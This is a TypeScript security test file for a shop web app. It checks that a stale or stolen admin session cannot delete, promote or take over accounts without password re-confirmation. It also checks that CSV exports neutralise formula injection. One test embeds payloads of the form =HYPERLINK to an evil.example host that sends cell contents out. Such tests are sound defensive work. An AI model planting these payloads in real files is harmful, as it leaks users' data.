// What somebody at an admin's browser that was left open, or with an admin's files, tried.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Visitor } from "#scripts/bench/reads/visitor.ts";
import { type BuiltShop, openBuiltShop } from "#tests/built/built-shop.ts";
import { admin, callApi, cookieContent, send, signedIn } from "./attacker.ts";

const taken = "Taken over 1";
const question = "Confirm your password first.";

let shop: BuiltShop;
let left: Visitor;
let token: string;
let customerId: string;
let product: { id: string; slug: string; detailId: string; quantity: number };
beforeAll(async () => {
  shop = await openBuiltShop();
  left = await signedIn(shop.url, admin);
  const body = { phoneNo: admin.phone, password: admin.password };
  token = String((await callApi(shop.url)("POST", "/api/users/auth", { body })).body.token);
  const { DB } = await shop.bindings();
  customerId = (await DB.prepare("SELECT id FROM users WHERE phone = '9000000003'").first("id"))!;
  product = (await DB.prepare(
    "SELECT p.id, p.slug, d.id AS detailId, f.quantity_milli / 1000.0 AS quantity FROM products p JOIN details d ON d.product_id = p.id JOIN financials f ON f.detail_id = d.id LIMIT 1",
  ).first())!;
  await DB.prepare("UPDATE sessions SET created_at = created_at - 1860000").run();
});
afterAll(() => shop?.close());

async function state() {
  const { DB } = await shop.bindings();
  const tables = ["users", "products", "details", "financials", "admin_log", "khata_accounts"];
  const read = tables.map((name) => DB.prepare(`SELECT * FROM ${name} ORDER BY 1`));
  return (await DB.batch(read)).map(({ results }) => results);
}

const profile = { name: "Owner", street: "", city: "", postalCode: "" };
const customer = { name: "Meena Iyer", phoneNo: "9000000003" };
const acts = (): [string, Record<string, string>][] => [
  ["/profile", { ...profile, password: taken, confirmPassword: taken }],
  [`/admin/user/${customerId}/edit`, { ...customer, phoneNo: "9111222337" }],
  [`/admin/user/${customerId}/edit`, { ...customer, isAdmin: "on" }],
  [`/admin/khata/${customerId}/limit`, { limit: "100000", hasAgreed: "on" }],
  [`/admin/user/${customerId}/delete`, {}],
  ["/admin/product/delete", { productId: product.id }],
  ["/admin/detail/delete", { productId: product.id, detailId: product.detailId }],
];

test("an hour later a browser that was left open deletes nothing, makes no admin and takes no account over", async () => {
  const before = await state();
  for (const [path, form] of acts()) {
    expect([path, (await left.ask(path, form)).status]).toEqual([path, 403]);
    // The password that was just refused, an empty one, and another's.
    for (const currentPassword of [taken, "", "Customer@12345"])
      expect((await left.ask(path, { ...form, currentPassword })).status).toBeGreaterThanOrEqual(
        400,
      );
  }
  const csv = "name,category,brand,quantity,units,price\r\nPlanted,Flours,Evil,1,kg,1\r\n";
  const { location } = await send(`${shop.url}/admin/catalogue`, {
    headers: { Cookie: left.cookie(), "Content-Type": "multipart/form-data; boundary=x" },
    body: `--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n${csv}\r\n--x--\r\n`,
  });
  expect(location).toBe("/admin/catalogue");
  expect((await left.ask("/admin/catalogue")).html).toContain("Confirm your password");
  expect(await state()).toEqual(before);
});

test("no call leads around the question: neither the cookie's content nor an old token", async () => {
  const before = await state();
  const call = callApi(shop.url);
  const calls: [string, string, object?][] = [
    ["PUT", "/api/users/profile", { password: taken }],
    ["PUT", `/api/users/${customerId}`, { ...customer, phoneNo: "9111222337" }],
    ["PUT", `/api/users/${customerId}`, { ...customer, isAdmin: true }],
    ["PUT", `/api/khata/${customerId}`, { limit: 100_000 }],
    ["DELETE", `/api/users/${customerId}`],
    ["DELETE", `/api/products/${product.id}`],
    ["DELETE", `/api/products/${product.slug}/details/${product.detailId}`],
  ];
  const stolen = String(cookieContent(left.cookie(), "session"));
  for (const [method, path, body] of calls) {
    const withBody = body ? { body } : {};
    expect((await call(method, path, { token: stolen, ...withBody })).status).toBe(401);
    const { status, body: answer } = await call(method, path, { token, ...withBody });
    expect([path, status, answer.message]).toEqual([path, 403, question]);
  }
  expect(await state()).toEqual(before);
});

test("what a shopkeeper's spreadsheet would calculate leaves as text, in full-width signs, too", async () => {
  const owner = await signedIn(shop.url, admin);
  const body = { phoneNo: admin.phone, password: admin.password };
  const call = callApi(shop.url);
  const fresh = String((await call("POST", "/api/users/auth", { body })).body.token);
  const path = `/api/products/${product.id}/details/${product.detailId}`;
  for (const sign of ["=", "+", "-", "@", "＝", "＋", "－", "＠"]) {
    const name = `${sign}HYPERLINK("https://evil.example/?"&A1)`;
    const { status } = await call("PUT", path, {
      token: fresh,
      body: { name, brand: `${sign}A1`, quantity: product.quantity },
    });
    expect(status).toBe(200);
    const { html: file } = await owner.ask("/admin/catalogue/download");
    expect(file).toContain(`"'${sign}HYPERLINK(`);
    expect(file).toContain(`,'${sign}A1,`);
    const cells = parse(file, { bom: true }).flat();
    expect(cells.length).toBeGreaterThan(1000);
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠](?![\d.]+$)/.test(cell))).toEqual([]);
  }
});
